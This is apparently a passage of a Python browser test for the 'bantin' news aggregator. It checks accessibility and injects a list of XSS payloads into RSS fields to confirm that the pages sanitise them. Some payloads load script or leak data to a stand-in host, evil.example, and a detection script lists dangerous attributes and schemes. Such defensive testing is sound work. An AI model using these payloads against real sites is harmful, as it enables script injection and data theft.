#!/usr/bin/env python3
"""The pages in a browser: headless Chromium, driven over its DevTools protocol with the standard library alone.

    python3 tests/browser.py --bantin target/release/bantin [--screens FOLDER] [--corpus ../shared/corpus] [--vectors 500]

First `bantin demo` is walked through: index, category, search (typed and sent), fragment, status. Then a scripted paper
puts XSS vectors into every field of its articles, with many categories and pictures. Of each page, at 360 and 1280 pixels,
in the light and in the dark: nothing on the console, no overflow, contrast (WCAG 2.2, 1.4.3), landmarks, one h1, headings
in order, alternatives of images, labels of fields, targets of 24 pixels (2.5.8), the skip link. Of hostile text: nothing
runs, no element or attribute stands there that a template did not write, and no request leaves the page's origin but for
the pictures that items name.

Where there is no Chromium this says so and ends with 0. Ends with 1 where anything is wrong.
"""
import argparse, base64, gzip, html, http.server, itertools, json, os, re, select, shutil, signal, socket, struct, subprocess
import sys, tempfile, threading, time, urllib.parse, urllib.request, zlib
from concurrent.futures import ThreadPoolExecutor
from xml.sax.saxutils import escape, quoteattr

PATIENCE = 60
failures, figures = [], {}


def check(good, what):
    if not good:
        failures.append(what)
        print(f"FAIL {what}", flush=True)
    return good


def add(name, number=1):
    figures[name] = figures.get(name, 0) + number


# --- the browser -----------------------------------------------------------------------------------------------------

class WebSocket:
    """RFC 6455, as much of it as a browser on this machine needs."""

    def __init__(self, address):
        parts = urllib.parse.urlsplit(address)
        self.stream = socket.create_connection((parts.hostname, parts.port), timeout=PATIENCE)
        key = base64.b64encode(os.urandom(16)).decode()
        self.stream.sendall((f"GET {parts.path} HTTP/1.1\r\nHost: {parts.netloc}\r\nUpgrade: websocket\r\n"
                             f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
        self.rest = b""
        while b"\r\n\r\n" not in self.rest:
            self.rest += self.stream.recv(4096)
        head, self.rest = self.rest.split(b"\r\n\r\n", 1)
        assert b" 101 " in head.split(b"\r\n")[0], head

    def _take(self, size):
        while len(self.rest) < size:
            more = self.stream.recv(1 << 16)
            if not more:
                raise EOFError("the browser is gone")
            self.rest += more
        taken, self.rest = self.rest[:size], self.rest[size:]
        return taken

    def send(self, text):
        data, mask = text.encode(), os.urandom(4)
        size = len(data)
        head = b"\x81" + (bytes([0x80 | size]) if size < 126 else
                          b"\xfe" + struct.pack("!H", size) if size < 65536 else b"\xff" + struct.pack("!Q", size))
        pad = (mask * (size // 4 + 1))[:size]
        masked = (int.from_bytes(data, "big") ^ int.from_bytes(pad, "big")).to_bytes(size, "big")
        self.stream.sendall(head + mask + masked)

    def receive(self):
        message = b""
        while True:
            first, second = self._take(2)
            size = second & 127
            if size > 125:
                size = struct.unpack("!H" if size == 126 else "!Q", self._take(2 if size == 126 else 8))[0]
            data = self._take(size)
            if first & 15 in (0, 1, 2):
                message += data
                if first & 128:
                    return message.decode()

    def has_news(self, seconds):
        return bool(self.rest) or bool(select.select([self.stream], [], [], seconds)[0])


class Browser:
    def __init__(self, program):
        self.folder = tempfile.mkdtemp(prefix="bantin-browser-")
        # no name leads anywhere: whatever a page asks of another host is seen, and fails
        self.process = subprocess.Popen(
            [program, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
             "--disable-dev-shm-usage", "--disable-component-update", "--hide-scrollbars", "--remote-debugging-port=0",
             "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1", f"--user-data-dir={self.folder}", "about:blank"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        port_file = os.path.join(self.folder, "DevToolsActivePort")
        until = time.monotonic() + PATIENCE
        while True:
            try:
                port, path = open(port_file).read().split()
                break
            except (OSError, ValueError):
                assert time.monotonic() < until and self.process.poll() is None, "the browser does not start"
                time.sleep(0.05)
        self.socket = WebSocket(f"ws://127.0.0.1:{port}{path}")
        self.number, self.events = 0, []
        target = self.call("Target.createTarget", url="about:blank")["targetId"]
        self.session = self.call("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
        for domain in ("Page", "Runtime", "Log", "Network", "Security"):
            self.call(f"{domain}.enable")
        self.call("Network.setCacheDisabled", cacheDisabled=True)
        # whoever runs says so, in every way in which vectors like to
        self.call("Page.addScriptToEvaluateOnNewDocument", source="""
            window.__ran = [];
            for (const name of ["alert", "confirm", "prompt", "print", "eval", "open", "postMessage", "xss"])
                window[name] = (...words) => { window.__ran.push(name + ": " + words.join(" ")); };""")

    def call(self, method, **parameters):
        self.number += 1
        message = {"id": self.number, "method": method, "params": parameters}
        if getattr(self, "session", None) and not method.startswith("Target."):
            message["sessionId"] = self.session
        self.socket.send(json.dumps(message))
        while True:
            answer = json.loads(self.socket.receive())
            if answer.get("id") == self.number:
                if "error" in answer:
                    raise RuntimeError(f"{method}: {answer['error']}")
                return answer["result"]
            self.take(answer)

    def take(self, event):
        self.events.append(event)
        if event.get("method") == "Page.javascriptDialogOpening":
            self.socket.send(json.dumps({"id": 10**9, "method": "Page.handleJavaScriptDialog",
                                         "params": {"accept": False}, "sessionId": self.session}))

    def wait_for(self, method, seconds=PATIENCE):
        until = time.monotonic() + seconds
        while not any(event.get("method") == method for event in self.events):
            assert time.monotonic() < until, f"no {method}"
            if self.socket.has_news(0.2):
                self.take(json.loads(self.socket.receive()))

    def open(self, address):
        self.events.clear()
        self.call("Page.navigate", url=address)
        self.wait_for("Page.loadEventFired")

    def run(self, script):
        result = self.call("Runtime.evaluate", expression=script, returnByValue=True, awaitPromise=True)
        if "exceptionDetails" in result:
            raise RuntimeError(json.dumps(result["exceptionDetails"])[:800])
        return result["result"].get("value")

    def size(self, width, height=800):
        self.call("Emulation.setDeviceMetricsOverride", width=width, height=height, deviceScaleFactor=1, mobile=width < 600)

    def scheme(self, name):
        self.call("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": name}])

    def key(self, key, code, text=None):
        more = {"text": text} if text else {}
        self.call("Input.dispatchKeyEvent", type="keyDown", key=key, code=key, windowsVirtualKeyCode=code, **more)
        self.call("Input.dispatchKeyEvent", type="keyUp", key=key, code=key, windowsVirtualKeyCode=code)

    def shot(self, path):
        size = self.run("[document.documentElement.scrollWidth, Math.min(document.documentElement.scrollHeight, 2400)]")
        clip = {"x": 0, "y": 0, "width": size[0], "height": size[1], "scale": 1}
        data = self.call("Page.captureScreenshot", format="png", captureBeyondViewport=True, clip=clip)["data"]
        open(path, "wb").write(base64.b64decode(data))

    def complaints(self):
        """What stands on the console since the page was opened, and what was asked for."""
        said = []
        for event in self.events:
            method, of = event.get("method"), event.get("params", {})
            if method == "Runtime.consoleAPICalled":
                said.append("console: " + " ".join(str(a.get("value", a.get("description"))) for a in of["args"]))
            elif method == "Runtime.exceptionThrown":
                said.append("exception: " + of["exceptionDetails"]["text"])
            elif method == "Log.entryAdded":
                said.append(f"{of['entry']['source']}: {of['entry']['text']} {of['entry'].get('url', '')}")
            elif method == "Page.javascriptDialogOpening":
                said.append("dialog: " + of["message"])
        return said

    def requests(self):
        return [(event["params"].get("type"), event["params"]["request"]["url"])
                for event in self.events if event.get("method") == "Network.requestWillBeSent"]

    def close(self):
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(10)
        except subprocess.TimeoutExpired:
            os.killpg(self.process.pid, signal.SIGKILL)
            self.process.wait()
        shutil.rmtree(self.folder, ignore_errors=True)


# --- what is asked of every page -------------------------------------------------------------------------------------

LOOK = r"""(() => {
  const wrong = [], seen = [];
  const visible = e => { const r = e.getBoundingClientRect(), s = getComputedStyle(e);
    return r.width > 1 && r.height > 1 && s.visibility !== "hidden" && r.right > 0; };
  const name = e => e.tagName.toLowerCase() + (e.className && e.className.baseVal === undefined ? "." + e.className : "") +
    " " + JSON.stringify((e.textContent || e.value || "").trim().slice(0, 40));
  const root = document.documentElement;
  if (root.scrollWidth > root.clientWidth) {
    const wide = [...document.body.querySelectorAll("*")].filter(e => e.getBoundingClientRect().right > root.clientWidth + 1);
    wrong.push(`overflow ${root.scrollWidth} > ${root.clientWidth}: ` + wide.slice(0, 3).map(name).join(", "));
  }
  if (!root.lang) wrong.push("no language");
  if (!document.title.trim()) wrong.push("no title");
  const one = (what, found) => { if (found.length !== 1) wrong.push(`${found.length} ${what}`); };
  const outside = e => !e.parentElement.closest("article, aside, main, nav, section");
  one("main", document.querySelectorAll("main"));
  one("banner", [...document.querySelectorAll("header")].filter(outside));
  one("contentinfo", [...document.querySelectorAll("footer")].filter(outside));
  one("h1", document.querySelectorAll("h1"));
  for (const e of document.querySelectorAll("nav, [role=search]"))
    if (!e.getAttribute("aria-label") && !e.getAttribute("aria-labelledby")) wrong.push("no label: " + name(e));
  let level = 0;
  for (const e of document.querySelectorAll("h1, h2, h3, h4, h5, h6")) {
    const now = Number(e.tagName[1]);
    if (now > level + 1) wrong.push(`h${now} behind h${level}: ` + name(e));
    if (!e.textContent.trim()) wrong.push("empty heading");
    level = now;
  }
  for (const e of document.querySelectorAll("img")) {
    if (!e.hasAttribute("alt")) wrong.push("no alt: " + e.src);
    const style = getComputedStyle(e);
    if (style.aspectRatio === "auto" && !(e.getAttribute("width") && e.getAttribute("height"))) wrong.push("jumps: " + e.src);
  }
  for (const e of document.querySelectorAll("svg"))
    if (e.getAttribute("role") !== "img" || !e.querySelector("title")) wrong.push("a drawing without words");
  for (const e of document.querySelectorAll("input:not([type=hidden]), select, textarea"))
    if (![...e.labels].some(l => l.textContent.trim()) && !e.getAttribute("aria-label")) wrong.push("no label: " + name(e));
  for (const e of document.querySelectorAll("a[href], button"))
    if (!e.textContent.trim() && !e.getAttribute("aria-label")) wrong.push("no name: " + e.outerHTML.slice(0, 80));
  for (const e of document.querySelectorAll("time"))
    if (!/^\d{4}-\d\d-\d\d(T\d\d:\d\d:\d\d([+-]\d\d:\d\d|Z))?$/.test(e.dateTime)) wrong.push("datetime " + e.dateTime);
  // WCAG 2.2, 2.5.8: 24 pixels, or room around
  const targets = [...document.querySelectorAll("a[href], button, input:not([type=hidden]), select, summary")].filter(visible)
    .filter(e => !e.classList.contains("skip"));
  const boxes = targets.map(e => e.getBoundingClientRect());
  targets.forEach((e, i) => {
    const r = boxes[i];
    if (r.width >= 24 && r.height >= 24) return;
    const inText = e.parentElement.matches("p:not(.facts):not(.subscribe), dd") &&
      [...e.parentElement.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
    if (inText) return;
    const x = r.left + r.width / 2, y = r.top + r.height / 2;
    for (let j = Math.max(0, i - 12); j < Math.min(targets.length, i + 12); j++) {
      if (j === i || targets[j].contains(e) || e.contains(targets[j])) continue;
      const o = boxes[j], small = o.width < 24 || o.height < 24;
      const dx = Math.max(o.left - x, 0, x - o.right), dy = Math.max(o.top - y, 0, y - o.bottom);
      const cx = o.left + o.width / 2 - x, cy = o.top + o.height / 2 - y;
      if (Math.hypot(dx, dy) < 12 || (small && Math.hypot(cx, cy) < 24)) { wrong.push(`target ${Math.round(r.width)}x${Math.round(r.height)}: ` + name(e) + " beside " + name(targets[j])); return; }
    }
  });
  // WCAG 2.2, 1.4.3
  const parse = text => { const n = (text.match(/[\d.]+/g) || []).map(Number); return {r: n[0], g: n[1], b: n[2], a: n.length > 3 ? n[3] : 1}; };
  const light = c => { const f = v => (v /= 255) <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4; return .2126 * f(c.r) + .7152 * f(c.g) + .0722 * f(c.b); };
  const ratio = (a, b) => { const [x, y] = [light(a), light(b)].sort((p, q) => q - p); return (x + .05) / (y + .05); };
  const ground = e => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.a > 0) return c; } return {r: 255, g: 255, b: 255}; };
  let least = 99, where = "";
  const judge = (color, e, size, weight, text) => {
    const found = ratio(parse(color), ground(e)), need = size >= 24 || (size >= 18.66 && weight >= 700) ? 3 : 4.5;
    if (found < least) { least = found; where = text; }
    if (found < need) wrong.push(`contrast ${found.toFixed(2)}: ` + text);
  };
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const done = new Set();
  while (walk.nextNode()) {
    const e = walk.currentNode.parentElement;
    if (!walk.currentNode.textContent.trim() || done.has(e) || !visible(e) || e.closest("svg, style, .unseen")) continue;
    done.add(e);
    const style = getComputedStyle(e);
    judge(style.color, e, parseFloat(style.fontSize), Number(style.fontWeight), name(e));
  }
  for (const e of document.querySelectorAll("input:not([type=hidden])")) {
    const style = getComputedStyle(e, "::placeholder");
    if (e.placeholder) judge(style.color, e, parseFloat(style.fontSize), 400, "placeholder");
    const edge = ratio(parse(getComputedStyle(e).borderTopColor), ground(e.parentElement));
    if (edge < 3) wrong.push(`edge of a field ${edge.toFixed(2)}`);
  }
  for (const e of document.querySelectorAll("svg path:not(.ground)")) {
    const found = ratio(parse(getComputedStyle(e).fill), ground(e.closest("figure")));
    if (found < 3) { wrong.push(`bars ${found.toFixed(2)}`); break; }
  }
  return {wrong: [...new Set(wrong)].slice(0, 20), least, where, texts: done.size};
})()"""

# what no template writes: whatever of this stands in a page came from outside as markup
FOREIGN = r"""(() => {
  const tags = new Set("a article b bdi body br button code desc details div fieldset figcaption figure footer form h1 h2 h3 head header html img input label legend li link main mark meta nav ol option p path search section select small span style summary svg time title ul".split(" "));
  const wrong = [];
  for (const e of document.querySelectorAll("*")) {
    if (!tags.has(e.tagName.toLowerCase())) wrong.push("<" + e.tagName + ">");
    for (const a of e.attributes) {
      if (/^on|^style$|^srcdoc$|^formaction$|^ping$|^background$|^http-equiv$/i.test(a.name)) wrong.push(`${e.tagName} ${a.name}`);
      if (/^(href|src|action|xlink:href)$/i.test(a.name) && /^[\s\x00-\x20]*(javascript|data|vbscript|blob|file):/i.test(a.value)) wrong.push(a.value.slice(0, 60));
    }
  }
  if (document.querySelectorAll("style").length > 1) wrong.push("a second style sheet");
  return {wrong: [...new Set(wrong)].slice(0, 8), ran: window.__ran || [], size: document.querySelectorAll("*").length};
})()"""


def judge(browser, address, label, screens=None):
    """Opens a page in four looks and says what is wrong."""
    for width, scheme in itertools.product((360, 1280), ("light", "dark")):
        browser.size(width)
        browser.scheme(scheme)
        browser.open(address)
        found = browser.run(LOOK)
        where = f"{label} at {width} px, {scheme}"
        for wrong in found["wrong"]:
            check(False, f"{where}: {wrong}")
        for said in browser.complaints():
            check(False, f"{where}: {said}")
        origin = "/".join(address.split("/")[:3]) + "/"
        for kind, url in browser.requests():
            check(url.startswith(origin) or kind == "Image", f"{where}: asks {kind} {url}")
        add("looks at pages")
        figures["least contrast"] = min(figures.get("least contrast", 99), round(found["least"], 2))
        if screens:
            browser.shot(os.path.join(screens, f"{label}-{width}-{scheme}.png"))
    skip_link(browser, label)


def skip_link(browser, label):
    browser.key("Tab", 9)
    at = browser.run("""(() => { const e = document.activeElement, r = e.getBoundingClientRect();
        return [e.className, r.left >= 0 && r.top >= 0 && r.width > 20]; })()""")
    if not check(at == ["skip", True], f"{label}: the first stop of the keyboard is no visible skip link: {at}"):
        return
    browser.key("Enter", 13, "\r")
    until = time.monotonic() + 5
    while browser.run("document.activeElement.id") != "content" and time.monotonic() < until:
        time.sleep(0.02)
    check(browser.run("document.activeElement.id") == "content", f"{label}: the skip link leads nowhere")


# --- bantin and its papers -------------------------------------------------------------------------------------------

class Bantin:
    def __init__(self, *arguments):
        self.folder = tempfile.mkdtemp(prefix="bantin-pages-")
        self.log = open(os.path.join(self.folder, "log"), "w+")
        self.process = subprocess.Popen([*arguments, "--listen", "127.0.0.1:0"], stdout=subprocess.PIPE, stderr=self.log,
                                        text=True, cwd=self.folder)
        line = self.process.stdout.readline()
        assert line.startswith("listening on "), open(self.log.name).read()
        self.base = line.split(" on ")[1].strip()

    def get(self, path, **headers):
        request = urllib.request.Request(self.base + path, headers=headers)
        try:
            with urllib.request.urlopen(request, timeout=PATIENCE) as answer:
                return answer.status, answer.headers, answer.read()
        except urllib.error.HTTPError as error:
            return error.code, error.headers, error.read()

    def wait_for(self, path, enough):
        until = time.monotonic() + PATIENCE
        while True:
            status, _, body = self.get(path)
            if status == 200 and enough(body.decode()):
                return body.decode()
            assert time.monotonic() < until, f"{path}: {status} {body[:300]}\n{open(self.log.name).read()[-3000:]}"
            time.sleep(0.1)

    def close(self):
        self.process.send_signal(signal.SIGTERM)
        self.process.wait(20)
        shutil.rmtree(self.folder, ignore_errors=True)


class Paper:
    """An origin that answers with what was put there."""

    def __init__(self):
        pages = self.pages = {}
        asked = self.asked = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append(self.path)
                media_type, body = pages.get(self.path.split("?")[0], (None, b""))
                self.send_response(200 if media_type else 404)
                self.send_header("Content-Type", media_type or "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.handle_error = lambda *_: None  # a browser that goes on to the next page hangs up
        self.home = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def put(self, path, media_type, body):
        self.pages[path] = (media_type, body if isinstance(body, bytes) else body.encode())


def picture(width, height, color):
    """A PNG of one color with a band."""
    rows = b"".join(b"\0" + bytes(color if y < height * 2 // 3 else [c // 2 for c in color]) * width for y in range(height))
    chunk = lambda kind, data: struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))


# --- the vectors -----------------------------------------------------------------------------------------------------

BASES = """<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<img src=x onerror=alert(1)>
<img src=`x`onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href=javascript:alert(1)>x</math>
<body onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<form action=javascript:alert(1)><input type=submit autofocus onfocus=alert(1)></form>
<button formaction=javascript:alert(1) autofocus>x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=//evil.example/">
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=preconnect href=//evil.example>
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/leak)}</style>
<div style="background:url(//evil.example/leak)">x</div>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<select><option><script>alert(1)</script></option></select>
<table background=javascript:alert(1)><td>x
<isindex action=javascript:alert(1) type=image>
<a href=x ping=//evil.example/ping>x</a>
<img srcset="//evil.example/a 1x, //evil.example/b 2x">
<portal src=//evil.example/></portal>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<x onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>x
{{constructor.constructor('alert(1)')()}}
${alert(1)}
javascript:alert(1)
JaVaScRiPt:alert(1)
java\tscript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
\u202e<script>alert(1)</script>
\ufeff<script>alert(1)</script>
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e""".split("\n")
BREAKS = ["{}", "\">{}", "'>{}", "</title>{}", "</style>{}", "]]>{}", "-->{}", "\" autofocus onfocus=alert(1) x=\"{}", "</p></article></main>{}"]


def vectors(corpus, most):
    """The corpus first, then our own, in every way out of where they may stand."""
    found = []
    path = os.path.join(corpus, "dompurify", "cases.json")
    if os.path.isfile(path):
        found = [case["payload"] for case in json.load(open(path)) if case.get("payload")]
        figures["vectors of dompurify"] = len(found)
    own = [outer.replace("{}", base.encode().decode("unicode_escape") if base.isascii() and "\\" in base else base)
           for outer in BREAKS for base in BASES]
    found += own
    clean = lambda text: "".join(c for c in text if c in "\t\n" or ord(c) >= 32 and not 0xd800 <= ord(c) < 0xe000 and ord(c) & 0xfffe != 0xfffe)
    seen = list(dict.fromkeys(clean(text)[:4000] for text in found if text.strip()))
    return seen[:most] if most else seen


def hostile_feed(paper, all_vectors, of_links):
    """RSS with a vector in every field; with one in the links, or with good links and one in all else."""
    items = []
    for number, vector in enumerate(all_vectors):
        text, link = escape(vector), f"{paper.home}/bai/{'lien-ket' if of_links else 'chu'}-{number}.html"
        hostile = quoteattr(vector)
        if of_links:
            bad = vector if number % 2 else f"{paper.home}/{vector}"
            items.append(f"<item><title>Bài liên kết số {number} của {number * 7919}</title><link>{escape(bad)}</link>"
                         f"<guid isPermaLink='false'>{text}</guid><description>Tóm tắt {number}</description></item>")
            continue
        image = hostile if number % 3 else quoteattr(f"{paper.home}/anh/{number}.png?{vector}")
        items.append(
            f"<item><title>{text} bài {number}</title><link>{link}</link><guid isPermaLink='false'>chu-{number}</guid>"
            f"<description>{text} tóm tắt {number}</description><content:encoded>{text} toàn văn {number}</content:encoded>"
            f"<dc:creator>{text}</dc:creator><category>{text}</category>"
            f"<enclosure url={hostile} type={hostile} length='1'/><media:content url={image} medium='image'/>"
            f"<pubDate>{time.strftime('%a, %d %b %Y %H:%M:%S +0000', time.gmtime(time.time() - 60 * number - 3600))}</pubDate></item>")
    return (f"<?xml version='1.0' encoding='utf-8'?><rss version='2.0' xmlns:content='http://purl.org/rss/1.0/modules/content/'"
            f" xmlns:dc='http://purl.org/dc/elements/1.1/' xmlns:media='http://search.yahoo.com/mrss/'><channel>"
            f"<title>{escape(all_vectors[0])}</title><link>{paper.home}/</link><description>x</description>{''.join(items)}</channel></rss>")


STORIES = [
    ("Thông xe cầu Nậm La mới, rút ngắn đường vào trung tâm thành phố", "Sau hai năm xây dựng, cây cầu dài 210 mét nối hai bờ suối đã đón những chuyến xe đầu tiên trong sáng nay."),
    ("Mận hậu đầu mùa được giá, nông dân Mộc Châu phấn khởi", "Giá thu mua tại vườn cao gấp rưỡi năm ngoái; hợp tác xã cam kết bao tiêu toàn bộ sản lượng cho các hộ thành viên."),
    ("Ngày hội xòe Thái thu hút hàng nghìn du khách", "Vòng xòe lớn với hơn 500 người tham gia được tổ chức tại quảng trường, mở đầu chuỗi hoạt động văn hóa mùa xuân."),
    ("Dự báo thời tiết toàn tỉnh ngày 23/11: trời rét, có sương mù", None),
    ("Đưa lớp học chữ đến từng bản vùng cao biên giới", "Các thầy cô và bộ đội biên phòng thay nhau đứng lớp vào mỗi buổi tối, khi bà con đã xong việc nương rẫy, để ai cũng được học con chữ và làm quen với máy tính."),
    ("Khởi công tuyến đường nối ba xã khó khăn nhất huyện Sốp Cộp", "Dài 18 km."),
]


def calm_feed(paper):
    sizes = [(800, 533), (600, 800), (1200, 400), (320, 320), (640, 360), (480, 640)]
    items = []
    for number in range(18):
        title, summary = STORIES[number % len(STORIES)]
        title += "" if number < len(STORIES) else f", kỳ {number // len(STORIES) + 1}"
        path, (width, height) = f"/anh/{number % 6}.png", sizes[number % 6]
        if number < 6:
            paper.put(path, "image/png", picture(width // 4, height // 4, [[150, 70, 60], [70, 110, 90], [60, 90, 130], [150, 120, 60], [110, 80, 120], [90, 90, 90]][number]))
        shown = "" if number % 6 == 3 else (f"<media:content url='{paper.home}{path}' medium='image'" +
                                            (f" width='{width}' height='{height}'" if number % 2 else "") + "/>")
        described = f"<description>{escape(summary)}</description>" if summary else ""
        when = time.strftime("%a, %d %b %Y %H:%M:%S +0000", time.gmtime(time.time() - 4 * 3600 * number - 1800))
        items.append(f"<item><title>{escape(title)}</title><link>{paper.home}/dep/{number}.html</link>{described}{shown}"
                     f"<category>{['Xã hội', 'Kinh tế', 'Văn hóa - Du lịch'][number % 3]}</category>"
                     f"<dc:creator>{['Lò Thị Mai', 'Hà Văn Thắng'][number % 2]}</dc:creator><pubDate>{when}</pubDate></item>")
    return (f"<?xml version='1.0'?><rss version='2.0' xmlns:media='http://search.yahoo.com/mrss/' xmlns:dc='http://purl.org/dc/elements/1.1/'>"
            f"<channel><title>Báo Đẹp</title><link>{paper.home}/</link><description>x</description>{''.join(items)}</channel></rss>")


# --- the walks -------------------------------------------------------------------------------------------------------

def walk_demo(browser, program, screens):
    bantin = Bantin(program, "demo")
    try:
        bantin.wait_for("bao-mau/xa-hoi.html", lambda page: page.count("<article") >= 3)
        bantin.wait_for("bao-mau/all.html", lambda page: page.count("<article") >= 8)
        bantin.wait_for("status", lambda page: page.count("<svg") >= 4)
        for path, label in (("", "demo-index"), ("bao-mau/xa-hoi.html", "demo-category"), ("status", "demo-status"),
                            ("search", "demo-search"), ("search?q=khong+co+gi+nhu+the", "demo-nothing-found")):
            judge(browser, bantin.base + path, label, screens)
        type_a_search(browser, bantin, screens)
        links_both_ways(bantin)
        embed_fragment(browser, bantin)
        shares(bantin)
        sizes(bantin)
        costs(bantin)
    finally:
        bantin.close()


def type_a_search(browser, bantin, screens):
    """From the index, by the keyboard alone."""
    browser.size(360)
    browser.scheme("light")
    browser.open(bantin.base)
    for _ in range(12):
        browser.key("Tab", 9)
        if browser.run("document.activeElement.name") == "q":
            break
    check(browser.run("document.activeElement.name") == "q", "the field of the search is not reached by the keyboard")
    browser.call("Input.insertText", text="du bao thoi tiet")
    browser.events.clear()
    browser.key("Enter", 13, "\r")
    browser.wait_for("Page.loadEventFired")
    check("/search?" in browser.run("location.href"), "the search was not sent")
    for said in browser.complaints():
        check(False, f"search: {said}")
    found = browser.run("""({hits: document.querySelectorAll("main article").length, marks: document.querySelectorAll("mark").length,
        typed: document.querySelector("[name=q]").value, feeds: [...document.querySelectorAll("link[rel=alternate]")].map(l => l.href)})""")
    check(found["hits"] > 0 and found["marks"] > 0, f"nothing was found or marked: {found}")
    check(found["typed"] == "du bao thoi tiet", "what was typed is gone")
    check(len(found["feeds"]) == 3, f"feeds of the search: {found['feeds']}")
    for address in found["feeds"]:
        status, headers, body = bantin.get(address.removeprefix(bantin.base))
        check(status == 200 and len(body) > 500, f"{address}: {status}")
        own = (address.replace("&", form).encode() in body for form in ("&", "&amp;", "&#x26;"))
        check(any(own), f"{address}: no link to itself")
        status, _, _ = bantin.get(address.removeprefix(bantin.base), **{"If-None-Match": headers["ETag"]})
        check(status == 304, f"{address}: {status} to its own tag")
    judge(browser, browser.run("location.href"), "demo-found", screens)


def links_both_ways(bantin):
    page = bantin.get("bao-mau/xa-hoi.html")[2].decode()
    for ending in ("rss", "atom", "json"):
        address = f"{bantin.base}bao-mau/xa-hoi.{ending}"
        check(re.search(rf'<link rel="alternate"[^>]*href="{re.escape(address)}"', page), f"the page does not name {address}")
        check(f"{bantin.base}bao-mau/xa-hoi.html" in bantin.get(f"bao-mau/xa-hoi.{ending}")[2].decode(), f"{ending} does not name its page")


def embed_fragment(browser, bantin):
    """As another site does: its own page fetches the list and shows it by its own style sheet."""
    site = Paper()
    site.put("/", "text/html; charset=utf-8", f"""<!DOCTYPE html><html lang="vi"><link rel="icon" href="data:,"><title>Trang khác</title>
        <style>.bantin-headline {{ color: rgb(1, 2, 3) }} .bantin-list {{ list-style: none }}</style><h1>Trang khác</h1><div id="here"></div>
        <script>fetch("{bantin.base}bao-mau/all.fragment.html").then(a => a.text()).then(t => {{ here.innerHTML = t; document.body.dataset.done = 1 }})</script>""")
    browser.open(site.home + "/")
    until = time.monotonic() + 10
    while not browser.run("document.body.dataset.done") and time.monotonic() < until:
        time.sleep(0.05)
    found = browser.run("""({items: document.querySelectorAll(".bantin .bantin-item").length,
        color: (e => e && getComputedStyle(e).color)(document.querySelector(".bantin-headline")),
        back: (e => e && e.href)(document.querySelector(".bantin-title a")), source: (e => e && e.textContent)(document.querySelector(".bantin-source")),
        wide: document.documentElement.scrollWidth <= document.documentElement.clientWidth})""")
    check(found["items"] > 0 and found["color"] == "rgb(1, 2, 3)" and found["wide"], f"fragment: {found}")
    check(found["back"] == f"{bantin.base}bao-mau/all.html" and "Báo Mẫu" in (found["source"] or ""), f"attribution: {found}")
    for said in browser.complaints():
        check(False, f"fragment: {said}")
    add("pages with a fragment")


def shares(bantin):
    for path in ("", "bao-mau/xa-hoi.html"):
        page = bantin.get(path)[2].decode()
        for name in ("og:title", "og:description", "og:url", "og:type"):
            check(re.search(rf'<meta property="{name}" content="[^"]+"', page), f"/{path}: no {name}")
        check('name="twitter:card"' in page, f"/{path}: no card")
        address = re.search(r'og:url" content="([^"]*)"', page)
        check(address and address[1].startswith("http"), f"/{path}: og:url is not absolute")


def sizes(bantin):
    for path in ("", "bao-mau/xa-hoi.html", "search?q=thoi+tiet", "status", "bao-mau/all.fragment.html"):
        body = bantin.get(path)[2]
        figures[f"bytes of /{path}"] = f"{len(body)} ({len(gzip.compress(body, 6))} gzip)"


def costs(bantin):
